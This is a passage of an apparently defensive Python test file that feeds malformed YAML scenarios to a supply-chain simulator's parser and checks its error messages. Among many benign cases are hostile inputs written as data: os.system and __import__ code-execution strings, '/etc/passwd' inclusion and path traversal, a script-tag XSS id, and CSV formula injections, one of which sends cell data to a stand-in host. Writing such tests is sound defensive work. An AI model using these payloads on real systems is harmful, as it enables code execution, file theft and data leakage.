"""Scenarios with one fault each, and all that is said about them.

A name that begins with a number carries over a fault from a collection that was
made for another schema.  What of it has no counterpart here:

========================== =========================================================
076_demand_over_capacity   supplier and lanes have no capacity that demand could exceed
100_bom_cycle              parts need no other parts; carried over to a cycle of regimes
113_extends_symlink        with the other faults of ``extends``, in test_extends.py
108_extends_cycle          as well
135_sweep_seed             with the faults of sweeps, in test_bad_sweeps.py
118_xss_name               as an id it is refused; in other text there is no page to harm
122, 123_csv_formula       as an id it is refused
126 to 131_sweep           as well; values that are set from outside are those of ``--set``
========================== =========================================================

028 and 030 are the tests of encodings and line ends below, 091 and 101 that of
empty sections; 001 to 004 and what takes long or much room are in test_hostile.py.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from flagship import FLAGSHIP, Replacement, complaints, loaded, refusal

from supplychain_sim.scenario.parse import load, scenario_hash

#: Claims name what these faults take away; they have tests of their own.
NO_CLAIMS = "claims=null"

CARRIED: dict[str, tuple[tuple[Replacement, ...], list[str]]] = {
    "005_multi_doc": (
        (
            (
                "  joint_venture: {preset: joint_venture}\n",
                "  joint_venture: {preset: joint_venture}\n---\nschema: 1\n",
            ),
        ),
        ["s.yaml:179:1: found a second document, expected one"],
    ),
    "011_dup_key_quoted": (
        (("seed: 20030106", '"seed": 1\nseed: 20030106'),),
        ["s.yaml:10:1: seed: found the key 'seed' twice, first in line 9"],
    ),
    "017_alias_self": (
        (("schema: 1", "loop: &a [*a]\nschema: 1"),),
        [
            "s.yaml:4:1: loop: unknown key 'loop', expected one of claims, contract, currency, extends, firms, government, hazards, horizon, kits, lanes, parts, ports, provenance, question, regimes, relations, replications, schema, seed, sites, source, start, targets, transport, visitors",
            "s.yaml:4:11: loop.0: the anchor 'a' contains itself",
        ],
    ),
    "022_python_tag": (
        (("question: Does", 'question: !!python/object/apply:os.system ["touch pwned"]  # Does'),),
        [
            "s.yaml:5:11: question: found the tag '!!python/object/apply:os.system', expected a value without a tag"
        ],
    ),
    "023_unknown_tag": (
        (("Home plant (stand-in)", "!include /etc/passwd"),),
        [
            "s.yaml:15:19: sites.kassel.name: found the tag '!include', expected a value without a tag"
        ],
    ),
    "026_set_tag": (
        (("plants: [suzhou, kazan, chennai]", "plants: !!set {suzhou, kazan, chennai}"),),
        [
            "s.yaml:22:38: firms.gear-maker.plants: found the tag '!!set', expected a value without a tag"
        ],
    ),
    "033_newline_name": (
        (("Home plant (stand-in)", '"Home\\nplant"'),),
        [
            "s.yaml:15:19: sites.kassel.name: found 'Home plant', expected one line of 1 to 200 characters"
        ],
    ),
    "034_nfd_nfc_ids": (
        (
            (
                "  kazan:   {name",
                '  "caf\\u00e9": {name: A, country: FR, lat: 1, lon: 1}\n  "cafe\\u0301": {name: A, country: FR, lat: 1, lon: 1}\n  kazan:   {name',
            ),
        ),
        [
            "s.yaml:18:3: sites.café: found 'café', expected an id of up to 64 letters, digits, - and _ that begins with a letter",
            "s.yaml:19:3: sites.café: found 'café', expected an id of up to 64 letters, digits, - and _ that begins with a letter",
        ],
    ),
    "035_case_ids": (
        (
            (
                "  kazan:   {name",
                "  Kassel: {name: A, country: DE, lat: 1, lon: 1}\n  kazan:   {name",
            ),
        ),
        [
            "s.yaml:18:3: sites.Kassel: found 'kassel' (line 15) and 'Kassel', expected names that differ in more than case"
        ],
    ),
    "042_octal": (
        (("horizon: 12 years", "horizon: 010"),),
        [
            "s.yaml:8:10: horizon: found 010, which some read as octal; expected a number without leading zeros, or text in quotes"
        ],
    ),
    "043_float_no_dot": (
        (("horizon: 12 years", "horizon: 1e3"),),
        [
            "s.yaml:8:10: horizon: found 1000, expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "044_date_name": (
        (("Home plant (stand-in)", "2024-01-01"),),
        ["s.yaml:15:19: sites.kassel.name: found 2024-01-01, expected text; put it in quotes"],
    ),
    "045_name_number": (
        (("Home plant (stand-in)", "1.10"),),
        ["s.yaml:15:19: sites.kassel.name: found 1.1, expected text; put it in quotes"],
    ),
    "046_null_name": (
        (("name: Home plant (stand-in)", "name: "),),
        ["s.yaml:15:19: sites.kassel.name: found nothing, expected text"],
    ),
    "049_horizon_units": (
        (("lat: 51.31", "lat: 51.31 degrees"),),
        ["s.yaml:15:60: sites.kassel.lat: found '51.31 degrees', expected a plain number"],
    ),
    "049_horizon_without_units": (
        (("horizon: 12 years", "horizon: 365"),),
        [
            "s.yaml:8:10: horizon: found 365, expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "050_horizon_zero": (
        (("horizon: 12 years", "horizon: 0 days"),),
        ["s.yaml:8:10: horizon: found '0 days', expected a time above zero"],
    ),
    "052_horizon_inf": (
        (("horizon: 12 years", "horizon: .inf"),),
        ["s.yaml:8:10: horizon: found .inf, expected a finite number"],
    ),
    "052_horizon_inf_days": (
        (("horizon: 12 years", "horizon: inf days"),),
        [
            "s.yaml:8:10: horizon: found 'inf days', expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "053_horizon_1e308": (
        (("horizon: 12 years", "horizon: 1e308 days"),),
        ["s.yaml:8:10: horizon: found '1e308 days', expected at most 200 years"],
    ),
    "057_seed_2_200": (
        (
            (
                "seed: 20030106",
                "seed: 1606938044258990275541962092341162602522202993782792835301376",
            ),
        ),
        [
            "s.yaml:9:7: seed: found 1606938044258990275541962092341162602522202993782792835301376, expected less than 18446744073709551616"
        ],
    ),
    "058_seed_null": (
        (("seed: 20030106", "seed:"),),
        ["s.yaml:9:6: seed: found nothing, expected a whole number"],
    ),
    "061_reps_huge": (
        (("replications: 30", "replications: 1000000000000"),),
        ["s.yaml:10:15: replications: found 1000000000000, expected at most 100000"],
    ),
    "062_rate_nan": (
        (("rate: 0.08 /year", "rate: .nan"),),
        ["s.yaml:134:11: hazards.strikes.rate: found .nan, expected a finite number"],
    ),
    "062_rate_nan_a_year": (
        (("rate: 0.08 /year", "rate: nan /year"),),
        [
            "s.yaml:134:11: hazards.strikes.rate: found 'nan /year', expected a rate: a number per minute, hour, day, week, month or year, such as '4 /year'"
        ],
    ),
    "063_rate_neg_inf": (
        (("rate: 0.08 /year", "rate: -.inf"),),
        ["s.yaml:134:11: hazards.strikes.rate: found -.inf, expected a finite number"],
    ),
    "063_rate_neg_inf_a_year": (
        (("rate: 0.08 /year", "rate: -inf /year"),),
        [
            "s.yaml:134:11: hazards.strikes.rate: found '-inf /year', expected a rate: a number per minute, hour, day, week, month or year, such as '4 /year'"
        ],
    ),
    "065_rate_flood": (
        (("rate: 0.08 /year", "rate: 1.0e+12 /day"),),
        [
            "s.yaml:134:11: hazards.strikes.rate: found '1.0e+12 /day', expected at most 1e+12 in a year"
        ],
    ),
    "066_zeno_interval": (
        (("suzhou-engineers: every 14 days", "suzhou-engineers: every 0 days"),),
        [
            "s.yaml:62:34: relations.housings.near.visits.suzhou-engineers: found 'every 0 days', expected an interval of at least one minute"
        ],
    ),
    "067_audit_every_zero": (
        (("audits: {every: 1 year", "audits: {every: 0 years"),),
        ["s.yaml:159:19: contract.audits.every: found '0 years', expected a time above zero"],
    ),
    "068_rounds_negative": (
        (("round: 3 years", "round: -3 years"),),
        ["s.yaml:158:10: contract.round: found '-3 years', expected a time that is not negative"],
    ),
    "077_dist_unknown": (
        (("dist: lognormal", "dist: lognornal"),),
        [
            "s.yaml:139:77: hazards.no-travel.duration.dist: found 'lognornal', expected one of constant, uniform, normal, lognormal, exponential, erlang, empirical, mixture; did you mean 'lognormal'?"
        ],
    ),
    "078_dist_extra_param": (
        (
            (
                "dist: lognormal, mean: 60 days, sd: 30 days",
                "dist: lognormal, mean: 60 days, sd: 30 days, lambda: 1",
            ),
        ),
        [
            "s.yaml:139:116: hazards.no-travel.duration.lambda: unknown key 'lambda', expected one of dist, mean, sd"
        ],
    ),
    "079_dist_missing_param": (
        (("dist: lognormal, mean: 60 days, sd: 30 days", "dist: lognormal, mean: 60 days"),),
        ["s.yaml:139:60: hazards.no-travel.duration: missing key 'sd', lognormal takes mean, sd"],
    ),
    "084_pareto_no_mean": (
        (("dist: lognormal, mean: 60 days, sd: 30 days", "dist: pareto, alpha: 0.9, low: 1 day"),),
        [
            "s.yaml:139:77: hazards.no-travel.duration.dist: found 'pareto', expected one of constant, uniform, normal, lognormal, exponential, erlang, empirical, mixture"
        ],
    ),
    "085_normal_negative_time": (
        (("dist: lognormal, mean: 60 days, sd: 30 days", "dist: normal, mean: 1 day, sd: 5 days"),),
        [
            "s.yaml:139:70: hazards.no-travel.duration: found a normal distribution that is negative 42 % of the time, expected at most 0.1 %; use lognormal"
        ],
    ),
    "086_dist_expression": (
        (("mean: 60 days", "mean: \"__import__('os').system('touch pwned')\""),),
        [
            "s.yaml:139:94: hazards.no-travel.duration.mean: found \"__import__('os').system('touch pwned')\", expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "087_dist_dotted_import": (
        (
            (
                "dist: lognormal, mean: 60 days, sd: 30 days",
                'dist: os.system, args: ["touch pwned"]',
            ),
        ),
        [
            "s.yaml:139:77: hazards.no-travel.duration.dist: found 'os.system', expected one of constant, uniform, normal, lognormal, exponential, erlang, empirical, mixture"
        ],
    ),
    "089_typo_nested": (
        (("rate: 0.08 /year", "raet: 0.08 /year"),),
        [
            "s.yaml:134:5: hazards.strikes.raet: unknown key 'raet', expected one of after, backlog, duration, lane, mode, on, passage, people, port, rate, season, site, stream; did you mean 'rate'?"
        ],
    ),
    "090_regime_unknown": (
        (("{preset: offshore_outsourcing}", "{preset: offshore_outsorcing}"),),
        [
            "s.yaml:177:34: regimes.offshore_outsourcing.preset: no preset 'offshore_outsorcing', did you mean 'offshore_outsourcing'?"
        ],
    ),
    "092_regimes_dup": (
        (
            (
                "  joint_venture: {preset: joint_venture}\n",
                "  joint_venture: {preset: joint_venture}\n  joint_venture: {preset: joint_venture}\n",
            ),
        ),
        [
            "s.yaml:179:3: regimes.joint_venture: found the key 'joint_venture' twice, first in line 178"
        ],
    ),
    "095_actor_dup_id": (
        (("  housing-maker:\n", "  gear-maker:\n"),),
        [
            "s.yaml:23:3: firms.gear-maker: found the key 'gear-maker' twice, first in line 22",
            "s.yaml:57:15: relations.housings.supplier: no firm 'housing-maker', did you mean 'gear-maker'?",
        ],
    ),
    "096_hazard_unknown_actor": (
        (("port: shanghai, rate", "port: shangai, rate"),),
        [
            "s.yaml:131:28: hazards.shanghai-weather.port: no port 'shangai', did you mean 'shanghai'?"
        ],
    ),
    "098_part_no_supplier": (
        (("    supplier: housing-maker", "    supplier:"),),
        ["s.yaml:57:14: relations.housings.supplier: found nothing, expected text"],
    ),
    "099_part_supplier_is_buyer": (
        (("supplier: housing-maker", "supplier: gear-maker"),),
        [
            "s.yaml:22:3: firms.gear-maker: missing key 'trial_teams', expected of a supplier (line 57)",
            "s.yaml:57:15: relations.housings.supplier: found 'gear-maker', the customer (line 56); expected another firm",
        ],
    ),
    "100_bom_cycle": (
        (
            ("{preset: near_apprenticeship}", "{extends: offshore_outsourcing}"),
            ("{preset: offshore_outsourcing}", "{extends: near_apprenticeship}"),
        ),
        [
            "s.yaml:177:35: regimes.offshore_outsourcing.extends: found a circle of regimes, near_apprenticeship -> offshore_outsourcing -> near_apprenticeship; expected an end to it"
        ],
    ),
    "103_extends_traversal": (
        (("schema: 1", "extends: ../../../../../../etc/passwd\nschema: 1"),),
        [
            "s.yaml:4:10: extends: found '../../../../../../etc/passwd', which leaves the folder of the scenario; expected the name of a file beside this one"
        ],
    ),
    "105_extends_backslash": (
        (("schema: 1", 'extends: "..\\\\..\\\\secret.yaml"\nschema: 1'),),
        [
            "s.yaml:4:10: extends: found '..\\\\..\\\\secret.yaml', with a backslash; expected the name of a file beside this one, with forward slashes only"
        ],
    ),
    "107_extends_self": (
        (("schema: 1", "extends: s.yaml\nschema: 1"),),
        ["s.yaml:4:10: extends: found the cycle s.yaml -> s.yaml, expected an end to it"],
    ),
    "118_xss_name": (
        (("  near_apprenticeship: {", '  "<script>alert(1)</script>": {'),),
        [
            "s.yaml:176:3: regimes.<script>alert(1)</script>: found '<script>alert(1)</script>', expected an id of up to 64 letters, digits, - and _ that begins with a letter"
        ],
    ),
    "122_csv_formula_eq": (
        (("  near_apprenticeship: {", '  \'=HYPERLINK("http://x/?"&A1,"click")\': {'),),
        [
            's.yaml:176:3: regimes.=HYPERLINK("http://x/?"&A1,"click"): found \'=HYPERLINK("http://x/?"&A1,"click")\', expected an id of up to 64 letters, digits, - and _ that begins with a letter'
        ],
    ),
    "123_csv_formula_at": (
        (("  near_apprenticeship: {", "  \"@SUM(1+1)*cmd|' /C calc'!A0\": {"),),
        [
            "s.yaml:176:3: regimes.@SUM(1+1)*cmd|' /C calc'!A0: found \"@SUM(1+1)*cmd|' /C calc'!A0\", expected an id of up to 64 letters, digits, - and _ that begins with a letter"
        ],
    ),
    "137_json_nan": (
        (("rate: 0.08 /year", "rate: NaN"),),
        [
            "s.yaml:134:11: hazards.strikes.rate: found 'NaN', expected a rate: a number per minute, hour, day, week, month or year, such as '4 /year'"
        ],
    ),
}

OTHERS: dict[str, tuple[tuple[Replacement, ...], list[str]]] = {
    "a quantity with a leading plus and none of its unit": (
        (("quoted: 14 days", "quoted: +14"),),
        [
            "s.yaml:75:13: relations.housings.quoted: found 14, expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "a number with underscores": (
        (("seed: 20030106", "seed: 2_003"),),
        ["s.yaml:9:7: seed: found '2_003', expected a whole number"],
    ),
    "a hexadecimal seed is a number, a hexadecimal time is none": (
        (("quoted: 14 days", "quoted: 0x0E days"),),
        [
            "s.yaml:75:13: relations.housings.quoted: found '0x0E days', expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "a share without per cent": (
        (("site_share: 25 %", "site_share: .25"),),
        [
            "s.yaml:41:17: parts.housing.site_share: found 0.25, expected a share: per cent, such as '40 %'"
        ],
    ),
    "a share above the whole": (
        (("site_share: 25 %", "site_share: 125 %"),),
        [
            "s.yaml:41:17: parts.housing.site_share: found '125 %', expected a share between 0 % and 100 %"
        ],
    ),
    "a share in the wrong words": (
        (("site_share: 25 %", "site_share: 25 percent"),),
        [
            "s.yaml:41:17: parts.housing.site_share: found '25 percent', expected a share: per cent, such as '40 %'"
        ],
    ),
    "yes for true": (
        (("procedure_review: true", "procedure_review: yes"),),
        [
            "s.yaml:171:23: regimes.mutual_learning.procedure_review: found 'yes', expected true or false"
        ],
    ),
    "on and off for truth": (
        (("benchmarking: true", "benchmarking: on"),),
        ["s.yaml:172:19: regimes.mutual_learning.benchmarking: found 'on', expected true or false"],
    ),
    "truth for a number": (
        (("interdependence: {value: 2,", "interdependence: {value: true,"),),
        ["s.yaml:39:30: parts.housing.interdependence: found true, expected a whole number"],
    ),
    "a fraction where a whole number is needed": (
        (("replications: 30", "replications: 30.5"),),
        ["s.yaml:10:15: replications: found 30.5, expected a whole number"],
    ),
    "a whole number written as a fraction": (
        (("replications: 30", "replications: 30.0"),),
        ["s.yaml:10:15: replications: found 30.0, expected a whole number"],
    ),
    "a date with a time": (
        (("start: 2003-01-06", "start: 2003-01-06 12:00:00"),),
        ["s.yaml:7:8: start: found '2003-01-06 12:00:00', expected a date such as 2003-01-06"],
    ),
    "a date of no calendar": (
        (("start: 2003-01-06", "start: 2003-02-30"),),
        ["s.yaml:7:8: start: found 2003-02-30, expected a day of the calendar, or text in quotes"],
    ),
    "a date of no calendar in quotes": (
        (("start: 2003-01-06", "start: '2003-02-30'"),),
        ["s.yaml:7:8: start: found '2003-02-30', expected a day of the calendar"],
    ),
    "a date the other way round": (
        (("start: 2003-01-06", "start: 06.01.2003"),),
        ["s.yaml:7:8: start: found '06.01.2003', expected a date such as 2003-01-06"],
    ),
    "a start long before any port": (
        (("start: 2003-01-06", "start: 0003-01-06"),),
        ["s.yaml:7:8: start: found 0003-01-06, expected a date from 1900 to 2200"],
    ),
    "a number that overflows": (
        (("lat: 51.31", "lat: 1e400"),),
        ["s.yaml:15:60: sites.kassel.lat: found 1e400, expected a finite number"],
    ),
    "a time that overflows": (
        (("quoted: 14 days", "quoted: 1e400 days"),),
        ["s.yaml:75:13: relations.housings.quoted: found a number too large to count with"],
    ),
    "a clock time": (
        (("quoted: 14 days", "quoted: 14:30"),),
        [
            "s.yaml:75:13: relations.housings.quoted: found 14:30, which some read in base sixty; expected a quantity such as '90 minutes', or text in quotes"
        ],
    ),
    "a time with a comma": (
        (("quoted: 14 days", "quoted: 1,5 days"),),
        [
            "s.yaml:75:13: relations.housings.quoted: found '1,5 days', expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "two units": (
        (("quoted: 14 days", "quoted: 2 weeks 3 days"),),
        [
            "s.yaml:75:13: relations.housings.quoted: found '2 weeks 3 days', expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "a unit of another dimension": (
        (("quoted: 14 days", "quoted: 14 km"),),
        [
            "s.yaml:75:13: relations.housings.quoted: found '14 km', a distance; expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "money for a time": (
        (("quoted: 14 days", "quoted: 14 USD"),),
        [
            "s.yaml:75:13: relations.housings.quoted: found '14 USD', an amount of money; expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "a unit before its number": (
        (("costs: 800 USD", "costs: $800"),),
        [
            "s.yaml:97:14: relations.housings.root_cause.costs: found '$800', expected an amount of money, such as '36 USD'"
        ],
    ),
    "money of another currency": (
        (("costs: 800 USD", "costs: 800 EUR"),),
        [
            "s.yaml:97:14: relations.housings.root_cause.costs: found '800 EUR', expected USD, the currency (line 11)"
        ],
    ),
    "a merge key": (
        (
            (
                "  near_apprenticeship: {preset: near_apprenticeship}",
                "  near_apprenticeship: {<<: {preset: near_apprenticeship}}",
            ),
        ),
        [
            "s.yaml:176:25: regimes.near_apprenticeship: found the merge key '<<', expected the keys themselves"
        ],
    ),
    "an alias without its anchor": (
        (("quoted: 14 days", "quoted: *usual"),),
        ["s.yaml:75:13: relations.housings.quoted: no anchor 'usual' above"],
    ),
    "a tab for indentation": (
        (("ports:\n  shanghai", "ports:\n\tshanghai"),),
        [
            "s.yaml:112:1: not YAML: while scanning for the next token, found character '\\t' that cannot start any token"
        ],
    ),
    "a key that is a number": (
        (("  hamburg:  {handling", "  1: {handling: 1 day}\n  hamburg:  {handling"),),
        ["s.yaml:113:3: ports: found 1 as a key, expected text; put it in quotes"],
    ),
    "a key that is a list": (
        (("  hamburg:  {handling", "  [a, b]: {handling: 1 day}\n  hamburg:  {handling"),),
        ["s.yaml:113:3: ports: found a list as a key, expected text; put it in quotes"],
    ),
    "a key with a colon": (
        (("  hamburg:  {handling", '  "a:b": {handling: 1 day}\n  hamburg:  {handling'),),
        [
            "s.yaml:113:3: ports.a:b: found 'a:b', expected an id of up to 64 letters, digits, - and _ that begins with a letter"
        ],
    ),
    "an empty key": (
        (("  hamburg:  {handling", '  "": {handling: 1 day}\n  hamburg:  {handling'),),
        [
            "s.yaml:113:3: ports.: found '', expected an id of up to 64 letters, digits, - and _ that begins with a letter"
        ],
    ),
    "a key without its space": (
        (("seed: 20030106", "seed:20030106"),),
        ["s.yaml:10:1: not YAML: while scanning a simple key, could not find expected ':'"],
    ),
    "an emoji for an id": (
        (("  hamburg:  {handling", "  🚢: {handling: 1 day}\n  hamburg:  {handling"),),
        [
            "s.yaml:113:3: ports.🚢: found '🚢', expected an id of up to 64 letters, digits, - and _ that begins with a letter"
        ],
    ),
    "a letter of another alphabet in an id": (
        (
            (
                "  kazan:   {name",
                "  kаssel: {name: A, country: RU, lat: 1, lon: 1}\n  kazan:   {name",
            ),
        ),
        [
            "s.yaml:18:3: sites.kаssel: found 'kаssel', expected an id of up to 64 letters, digits, - and _ that begins with a letter"
        ],
    ),
    "a path for an id": (
        (("  hamburg:  {handling", "  ../etc: {handling: 1 day}\n  hamburg:  {handling"),),
        [
            "s.yaml:113:3: ports.../etc: found '../etc', expected an id of up to 64 letters, digits, - and _ that begins with a letter"
        ],
    ),
    "text that turns a line round": (
        (("Home plant (stand-in)", '"Home \\u202e plant"'),),
        ["s.yaml:15:19: sites.kassel.name: found a control character, expected printable text"],
    ),
    "an escape sequence for a terminal": (
        (("Home plant (stand-in)", '"Home \\e[31m plant"'),),
        ["s.yaml:15:19: sites.kassel.name: found a control character, expected printable text"],
    ),
    "a null character": (
        (("Home plant (stand-in)", '"Home\\0plant"'),),
        ["s.yaml:15:19: sites.kassel.name: found a control character, expected printable text"],
    ),
    "a section with nothing in it": (
        (("targets:                     #", "targets:\nunused: #"),),
        [
            "s.yaml:145:9: targets: found nothing, expected a mapping; leave the key out for its default",
            "s.yaml:146:1: unused: unknown key 'unused', expected one of claims, contract, currency, extends, firms, government, hazards, horizon, kits, lanes, parts, ports, provenance, question, regimes, relations, replications, schema, seed, sites, source, start, targets, transport, visitors; did you mean 'seed'?",
        ],
    ),
    "a list for a mapping": (
        (
            (
                "ports:\n  shanghai: {handling: 2 days}\n  hamburg:  {handling: 2 days}\n",
                "ports: [shanghai, hamburg]\n",
            ),
        ),
        ["s.yaml:111:8: ports: found a list, expected a mapping"],
    ),
    "a mapping for a list": (
        (("plants: [suzhou, kazan, chennai]", "plants: {suzhou: 1}"),),
        ["s.yaml:22:38: firms.gear-maker.plants: found a mapping, expected a list"],
    ),
    "a list for a value": (
        (("quoted: 14 days", "quoted: [14 days]"),),
        [
            "s.yaml:75:13: relations.housings.quoted: found a list, expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "a mapping for a value": (
        (("quoted: 14 days", "quoted: {days: 14}"),),
        [
            "s.yaml:75:13: relations.housings.quoted: found a mapping, expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "a section one level too deep": (
        (("hazards:                     #", "hazards:\n  hazards:\n    x: {port: shanghai} #"),),
        [
            "s.yaml:131:3: hazards.hazards: found neither port, site, passage, people, lane nor mode, expected one of them",
            "s.yaml:131:3: hazards.hazards: found neither rate, on nor after, expected one of them",
            "s.yaml:131:3: hazards.hazards: missing key 'duration'",
            "s.yaml:132:5: hazards.hazards.x: unknown key 'x', expected one of after, backlog, duration, lane, mode, on, passage, people, port, rate, season, site, stream",
        ],
    ),
    "a section one level too shallow": (
        (("    quoted: 14 days", "quoted: 14 days"),),
        [
            "s.yaml:76:5: not YAML: while parsing a block mapping, expected <block end>, but found '<block mapping start>'"
        ],
    ),
    "a wrapper without its value": (
        (("staff_turnover: {value: 20.5 %/year, from", "staff_turnover: {from"),),
        [
            "s.yaml:27:21: firms.housing-maker.staff_turnover: found a mapping, expected a rate in per cent: % per minute, hour, day, week, month or year, such as '1.9 %/year'"
        ],
    ),
    "a provenance that does not exist": (
        (("{value: 2, from: literature", "{value: 2, from: literatur"),),
        [
            "s.yaml:39:39: parts.housing.interdependence.from: found 'literatur', expected one of text, literature, assumed, yours; did you mean 'literature'?"
        ],
    ),
    "a source that is a number": (
        (('source: "51job, 2011: turnover in Chinese manufacturing"', "source: 2011"),),
        ["s.yaml:27:68: firms.housing-maker.staff_turnover.source: found 2011, expected text"],
    ),
    "an id with a blank at its end": (
        (("home: kassel,", 'home: "kassel ",'),),
        [
            "s.yaml:22:22: firms.gear-maker.home: found 'kassel', expected an id of up to 64 letters, digits, - and _ that begins with a letter"
        ],
    ),
    "a capital letter in a reference": (
        (("home: kassel,", "home: Kassel,"),),
        ["s.yaml:22:22: firms.gear-maker.home: no site 'Kassel', did you mean 'kassel'?"],
    ),
    "a mode of transport that is none": (
        (("- mode: sea", "- mode: ship"),),
        [
            "s.yaml:123:15: lanes.foundry-kassel.legs.1.mode: found 'ship', expected one of road, rail, sea, air"
        ],
    ),
    "a distribution that is text": (
        (("duration: {dist: exponential, mean: 1.4 days}", "duration: exponential"),),
        [
            "s.yaml:131:90: hazards.shanghai-weather.duration: found 'exponential', expected a time such as '14 days', a distribution such as {dist: exponential, mean: 14 days}, or the name of one: drewry_2006, sea_intelligence_2021, sea_intelligence_2024"
        ],
    ),
    "a distribution without its kind": (
        (("dist: lognormal, mean: 60 days, sd: 30 days", "mean: 60 days, sd: 30 days"),),
        ["s.yaml:139:60: hazards.no-travel.duration: missing key 'dist'"],
    ),
    "a mixture of mixtures": (
        (
            (
                "{weight: 55 %, dist: uniform, min: 1 day, max: 2 days}",
                "{weight: 55 %, dist: mixture, of: []}",
            ),
        ),
        [
            "s.yaml:137:33: hazards.strikes.duration.of.0.dist: found 'mixture', expected one of constant, uniform, normal, lognormal, exponential, erlang, empirical"
        ],
    ),
    "weights below the whole": (
        (("weight: 55 %", "weight: 54 %"),),
        [
            "s.yaml:136:7: hazards.strikes.duration: found weights that add up to 99 %, expected 100 %"
        ],
    ),
    "a mixture without weights": (
        (("{weight: 55 %, dist", "{dist"),),
        [
            "s.yaml:136:7: hazards.strikes.duration: found a distribution without weight, expected one with each in a mixture"
        ],
    ),
    "counts for a time": (
        (("dist: lognormal, mean: 60 days, sd: 30 days", "dist: poisson, mean: 60 days"),),
        [
            "s.yaml:139:77: hazards.no-travel.duration.dist: found 'poisson', expected one of constant, uniform, normal, lognormal, exponential, erlang, empirical, mixture"
        ],
    ),
    "values that were never seen": (
        (("dist: lognormal, mean: 60 days, sd: 30 days", "dist: empirical, values: []"),),
        ["s.yaml:139:96: hazards.no-travel.duration.values: found none, expected at least 1"],
    ),
    "a value of another unit among those seen": (
        (
            (
                "dist: lognormal, mean: 60 days, sd: 30 days",
                "dist: empirical, values: [1 day, 2 km]",
            ),
        ),
        [
            "s.yaml:139:104: hazards.no-travel.duration.values.1: found '2 km', a distance; expected a time: minutes, hours, days, weeks, months or years, such as '14 days'"
        ],
    ),
    "a normal number below zero": (
        (
            (
                "backlog: {value: {dist: uniform, min: 4, max: 7}",
                "backlog: {value: {dist: normal, mean: 4, sd: 2}",
            ),
        ),
        [
            "s.yaml:138:22: hazards.strikes.backlog: found a normal distribution that is negative 2.3 % of the time, expected at most 0.1 %; use lognormal"
        ],
    ),
    "a backlog with a unit": (
        (("backlog: {value: {dist: uniform, min: 4, max: 7}", "backlog: {value: 4 days"),),
        [
            "s.yaml:138:22: hazards.strikes.backlog: found '4 days', expected a number, or a distribution such as {dist: uniform, min: 4, max: 7}"
        ],
    ),
    "a rate and days": (
        (("rate: 0.08 /year", "rate: 0.08 /year\n    on: [2004-01-01]"),),
        ["s.yaml:132:3: hazards.strikes: found rate and on, expected one of them"],
    ),
    "neither rate nor days": (
        (("    rate: 0.08 /year\n", ""),),
        ["s.yaml:132:3: hazards.strikes: found neither rate, on nor after, expected one of them"],
    ),
    "a day before the start and one after the end": (
        (("rate: 0.08 /year", "on: [2003-01-05, 2003-01-06, 2015-01-05, 2015-01-06]"),),
        [
            "s.yaml:134:10: hazards.strikes.on.0: found 2003-01-05, expected a day within the horizon, '12 years' (line 8) from 2003-01-06 (line 7)",
            "s.yaml:134:46: hazards.strikes.on.3: found 2015-01-06, expected a day within the horizon, '12 years' (line 8) from 2003-01-06 (line 7)",
        ],
    ),
    "a day twice": (
        (("rate: 0.08 /year", "on: [2004-02-29, '2004-02-29']"),),
        ["s.yaml:134:22: hazards.strikes.on.1: found 2004-02-29 twice, expected each day once"],
    ),
    "a day of no calendar": (
        (("rate: 0.08 /year", "on: [2005-02-29]"),),
        [
            "s.yaml:134:10: hazards.strikes.on.0: found 2005-02-29, expected a day of the calendar, or text in quotes"
        ],
    ),
    "no days at all": (
        (("rate: 0.08 /year", "on: []"),),
        ["s.yaml:134:9: hazards.strikes.on: found none, expected at least 1"],
    ),
    "one day without its list": (
        (("rate: 0.08 /year", "on: 2004-03-01"),),
        ["s.yaml:134:9: hazards.strikes.on: found 2004-03-01, expected a list"],
    ),
    "days in a season": (
        (("rate: 4 /year, season", "on: [2004-03-01], season"),),
        [
            "s.yaml:131:56: hazards.shanghai-weather.season: found a season beside days, expected one beside a rate"
        ],
    ),
    "closures by day that cover the horizon": (
        (
            (
                "rate: 0.08 /year\n    duration:",
                "on: [2004-03-01]\n    duration: 13 years\n    backlog: 2\n  more:\n    port: hamburg\n    rate: 0 /year\n    duration:",
            ),
        ),
        [
            "s.yaml:134:9: hazards.strikes.on: found closures of port 'hamburg' that take 108 % of the time with their backlogs, expected less than 100 %, or nothing gets through"
        ],
    ),
    "a port at which no lane calls": (
        (("  hamburg:  {handling", "  ningbo: {handling: 1 day}\n  hamburg:  {handling"),),
        [
            "s.yaml:113:3: ports.ningbo: found a port at which no lane calls and that is no site's airport, expected a leg to 'port/ningbo' in one of the lanes (line 116)"
        ],
    ),
    "an airport that is no port": (
        (("lat: 51.31, lon: 9.48", "lat: 51.31, lon: 9.48, airport: frankfurt"),),
        [
            "s.yaml:15:87: sites.kassel.airport: no port 'frankfurt', expected one of hamburg, shanghai"
        ],
    ),
    "an airport by another name than its port": (
        (
            ("lat: 51.31, lon: 9.48", "lat: 51.31, lon: 9.48, airport: franfurt"),
            ("  hamburg:  {handling", "  frankfurt: {handling: 1 day}\n  hamburg:  {handling"),
        ),
        ["s.yaml:15:87: sites.kassel.airport: no port 'franfurt', did you mean 'frankfurt'?"],
    ),
    "a lane that stands still": (
        (("to: port/hamburg", "to: port/shanghai"),),
        [
            "s.yaml:124:13: lanes.foundry-kassel.legs.1.to: found 'port/shanghai', the stop before (line 122); expected another stop"
        ],
    ),
    "a leg by sea without a port": (
        (("{mode: road, to: suzhou", "{mode: sea, to: suzhou"),),
        [
            "s.yaml:118:19: lanes.foundry-suzhou.legs.0.mode: found a leg by sea to 'suzhou' (line 118) that neither leaves from a port nor ends in one, expected a stop such as 'port/hamburg'"
        ],
    ),
    "a lane to another plant": (
